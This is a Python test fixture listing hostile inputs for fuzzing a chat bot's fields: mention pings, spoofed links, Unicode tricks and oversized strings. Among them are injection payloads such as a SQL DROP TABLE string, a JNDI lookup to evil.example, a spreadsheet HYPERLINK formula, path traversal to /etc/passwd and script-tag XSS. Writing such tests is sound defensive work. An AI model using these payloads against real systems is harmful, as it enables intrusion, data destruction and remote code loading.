"""Hundreds of texts that try to ping, forge, break out, hide, swell or crash, each by itself and inside a sentence."""

import os

from tests.core.text.hostile import TOKENS

EXAMPLES = (
    *("https://a.example<@123>", "\\<@123>", "\\\\<@123>", "<\u202e@123>", "@\x00everyone", "@\u200beveryone", "@here"),
    *("[free](https://evil.example)", "[free\\](https://evil.example)", "[free\\\\](https://evil.example)"),
    *("[free]\u202e(https://evil.example)", "[a [b] c](https://evil.example)", "[free](<https://evil.example>)"),
    *(
        "https://a.example[free](https://evil.example)",
        "`\\`[free](https://evil.example)",
        "```\n[free](https://evil.example)",
    ),
    *("discord\x00.gg/abc", "https://discord.gg/abc", "https://discord\u00ad.gg/abc", "https://DISCORD.GG/abc"),
    *("https://discord\u3002gg/abc", "https://\uff44\uff49\uff53\uff43\uff4f\uff52\uff44.gg/abc", "\u1fefcode\u1fef"),
    *(
        "```\n@everyone\n```",
        "``` ``` @here",
        "||spoiler",
        "**bold",
        "__under",
        "~~struck",
        "> quote\n@everyone",
        "- [ ] x",
    ),
    *(
        "=1+1",
        '=HYPERLINK("https://evil.example")',
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "'; DROP TABLE works; --",
        '" OR 1=1',
    ),
    *(
        "%s %d {0} {name}",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "../../etc/passwd",
        "<script>alert(1)</script>",
        "&lt;b&gt;",
    ),
    *(
        "null",
        "None",
        "NaN",
        "Infinity",
        "-0",
        "1e309",
        "0x7f",
        "9" * 400,
        "1" * 19,
        "٣",
        "²",
        "1.5.5",
        "true",
        "[]",
        "{}",
    ),
    *(
        "work:1",
        "work:999999999999999999999",
        "chapter:1",
        "suggestion:1",
        "call:1",
        "1:1",
        ":",
        "::",
        "work:",
        "a:b:c",
    ),
    *(
        "x" * 4000,
        "* " * 1500,
        "[" * 3000,
        "\n" * 900 + "x",
        "é" * 2000,
        "👩‍👩‍👧‍👦" * 300,
        "\u0301" * 500,
        "a\u0301" * 900,
        "🏳️‍🌈" * 200,
    ),
    *(
        "\u202eesrever\u202c",
        "\u2066a\u2069",
        "\u061cא",
        "ا" * 100,
        "السلام عليكم",
        "שלום",
        "日本語の題",
        "ไทย\u0e49\u0e49\u0e49",
        "ﷺ" * 60,
    ),
    *(
        "\ufeffBOM",
        "\u00ad" * 50,
        "\u3164",
        "\u2800",
        "\u200b" * 100,
        "\u0000",
        "\x07bell",
        "\x1b[31mred",
        "line\rreturn",
        "a\u2028b\u2029c",
    ),
    *(
        "yesterday",
        "31 February",
        "in -1 hours",
        "99:99",
        "12/13/14",
        "Friday 25:61",
        "UTC+99",
        "Europe/../../x",
        "EST5EDT",
        "9999-12-31",
    ),
    *(
        "https://",
        "http://[::1]/",
        "http://127.0.0.1/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://a.example/" + "a" * 3000,
    ),
    *(
        "https://user:pass@a.example/",
        "https://a.example:99999/",
        "https://а.example/",
        "https://a..example/",
        "ftp://a.example",
        "//a.example",
    ),
    *(
        ":heart:",
        "❤",
        "<:gone:1>",
        "<a:b:123456789012345678>",
        "<:x:99999999999999999999>",
        "🏳️🌈",
        "🇫",
        "1️⃣1️⃣",
        "👍🏽👍🏿",
        "💔" * 30,
    ),
)

HOSTILE = tuple(
    dict.fromkeys(
        text for token in (*TOKENS, *EXAMPLES) for text in (token, f"The {token} lamp", f"{token}{token}") if text
    )
)
"""Each by itself, in a sentence, and twice; halves of a character too, which no client sends but a request may hold."""

EACH = min(int(os.environ.get("HOSTILE", "2")), len(HOSTILE))
"""Texts that each field gets in this run; the next field gets the next ones."""
